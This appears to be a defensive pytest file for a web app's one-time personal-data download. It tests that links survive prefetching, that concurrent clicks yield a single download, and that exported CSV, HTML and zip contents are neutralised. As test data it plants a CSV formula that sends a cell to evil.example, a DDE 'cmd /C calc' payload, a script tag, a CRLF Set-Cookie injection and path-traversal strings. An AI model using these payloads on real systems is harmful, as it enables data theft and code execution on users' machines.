"""A download that is handed out once, whatever a mail scanner, a hurried finger or a thief does to its link."""

from __future__ import annotations

import csv
import io
import re
import sqlite3
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass

import pytest

from desk import public_visits as visits
from desk import serving
from desk.public_visits import Forms, Post
from desk.serving import Answer, Project, Served, Visitor

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"x")'
NASTY = (
    FORMULA,
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "<script>alert(1)</script>",
)
TRICKS = ("..%2f", "%2e%2e/", "data.json", "x%00", "x%0d%0aSet-Cookie:a=b", "C:%5cx", "A" * 43)


@pytest.fixture(scope="module")
def desk(project: Project) -> Iterator[Served]:
    """Serve the file's project behind a proxy, so that each visitor has an address."""
    with serving.serving(project, TROTH_PROXY="yes") as served:
        yield served


@pytest.fixture(scope="module")
def post(project: Project) -> Iterator[Post]:
    """Run a mail server."""
    with visits.post(project) as running:
        yield running


@dataclass(slots=True, kw_only=True)
class Waiting:
    """A package that waits for its person."""

    served: Served
    visitor: Visitor
    link: str
    email: str
    post: Post
    codes: int = 1

    def offered(self) -> str:
        """Ask for a code, give it, and return the address that hands the package out."""
        self.codes += 1
        self.visitor.headers |= visits.somebody(self.served).headers
        self.visitor.post(f"{self.link}package/code/")
        code = self.post.code(self.email, count=self.codes)
        page = self.visitor.post(f"{self.link}package/", {"code": code}, follow=False)
        assert page.status == 302, page.words
        return page.headers["location"]


@pytest.fixture(scope="module")
def waiting(desk: Served, project: Project, post: Post) -> Waiting:
    """Have somebody's request answered whose data holds everything a spreadsheet or a browser would run."""
    email = visits.customer(project)
    with sqlite3.connect(project.folder / "app.sqlite") as store:
        (number,) = store.execute("SELECT id FROM accounts WHERE email = ?", (email,)).fetchone()
        changed = "UPDATE profiles SET first_name = ?, last_name = ? WHERE account_id = ?"
        store.execute(changed, (NASTY[0], NASTY[-1], number))
        new = "INSERT INTO messages (account_id, direction, subject, body, sent_at) VALUES (?, 'in', ?, ?, ?)"
        for value in NASTY:
            store.execute(new, (number, value, f"{value}\n{value}", "2026-10-01T00:00:00Z"))
    forms = Forms(desk)
    forms.open(4)
    visitor = visits.somebody(desk)
    link = forms.filed(visitor, "access", email, name=NASTY[-1])
    visitor.post(f"{link}prove/code/")
    visitor.post(f"{link}prove/", {"what": "code", "code": post.code(email)})
    visits.answered(project, visits.number(visitor.get(link)))
    return Waiting(served=desk, visitor=visitor, link=link, email=email, post=post)


@pytest.fixture(scope="module")
def package(waiting: Waiting) -> dict[str, bytes]:
    """Take the package, and unpack it."""
    got = waiting.visitor.post(waiting.offered())
    assert got.status == 200
    with zipfile.ZipFile(io.BytesIO(got.body)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_looking_takes_nothing(waiting: Waiting) -> None:
    """Whoever fetches links before their reader does, in whole or in part, leaves the package where it is."""
    path = waiting.offered()
    stranger = Visitor(address=waiting.visitor.address)
    for method in ("HEAD", "GET", "OPTIONS", "PUT", "HEAD", "GET"):
        answer = stranger.ask(method, path, headers={"Range": "bytes=0-10", "Purpose": "prefetch"})
        assert answer.status in {200, 403, 405}, method
        assert answer.headers.get("content-type", "").startswith("text/html"), method
    assert stranger.ask("POST", path, headers={"Range": "bytes=0-10"}).status == 403
    got = waiting.visitor.post(path)
    assert (got.status, got.headers["content-type"]) == (200, "application/zip")
    assert got.headers["content-length"] == str(len(got.body))


def test_of_many_at_once_one_gets_it(waiting: Waiting, project: Project) -> None:
    """A double click, and a thief who is as quick: one is handed the package, and one download stands in evidence."""
    path = waiting.offered()
    before = project.troth("evidence", "list").count("case.downloaded")

    def take(_: int) -> Answer:
        other = Visitor(address=waiting.visitor.address, cookies=dict(waiting.visitor.cookies))
        return other.post(path)

    with ThreadPoolExecutor(8) as pool:
        came = list(pool.map(take, range(8)))
    assert sorted(answer.status for answer in came) == [200] + [404] * 7
    assert project.troth("evidence", "list").count("case.downloaded") == before + 1
    assert waiting.visitor.get(path).status == 404


def test_a_part_is_never_handed_out(waiting: Waiting) -> None:
    """Asked for a part, the whole comes: a link that was used up for a part would have lost the rest."""
    body = f"csrfmiddlewaretoken={waiting.visitor.cookies[serving.FORM]}".encode()
    kind = {"Content-Type": "application/x-www-form-urlencoded", "Range": "bytes=0-99"}
    got = waiting.visitor.ask("POST", waiting.offered(), body=body, headers=kind)
    assert (got.status, got.headers["content-length"]) == (200, str(len(got.body)))
    assert len(got.body) > 1_000
    assert got.headers["content-disposition"] == f'attachment; filename="my-data-case-{_case(waiting)}.zip"'


@pytest.mark.parametrize("trick", TRICKS)
def test_no_trick_with_the_address_hands_anything_out(waiting: Waiting, trick: str) -> None:
    """Addresses name no files, nor headers."""
    for path in (f"{waiting.link}package/{trick}/", f"{waiting.link}package/{trick}"):
        for answer in (waiting.visitor.get(path), waiting.visitor.post(path)):
            assert answer.status in {400, 404, 405}
            assert "set-cookie" not in answer.headers or "a=b" not in answer.headers["set-cookie"]


def test_a_spreadsheet_runs_nothing_of_a_package(package: dict[str, bytes]) -> None:
    """No cell of any table begins as a formula does, wherever the text came from."""
    tables = [name for name in package if name.endswith(".csv")]
    assert tables
    cells = [
        cell
        for name in tables
        for row in csv.reader(io.StringIO(package[name].decode("utf-8-sig"), newline=""))
        for cell in row
    ]
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r")) or cell[:2] in {"-2"}]


def test_a_browser_runs_nothing_of_a_package(package: dict[str, bytes]) -> None:
    """The page shows mark-up as its signs, and asks nobody for anything."""
    page = package["page.html"].decode()
    assert "<script>alert" not in page
    assert "&lt;script&gt;alert(1)" in page
    assert not re.search(r'\s(?:src|href)="(?:https?:|//|javascript:)', page)


def test_names_within_a_package_lead_nowhere_else(package: dict[str, bytes]) -> None:
    """No file of it is written outside of where it is unpacked."""
    assert not [name for name in package if name.startswith(("/", "\\")) or ".." in name or ":" in name]


def _case(waiting: Waiting) -> str:
    return visits.number(waiting.visitor.get(waiting.link))
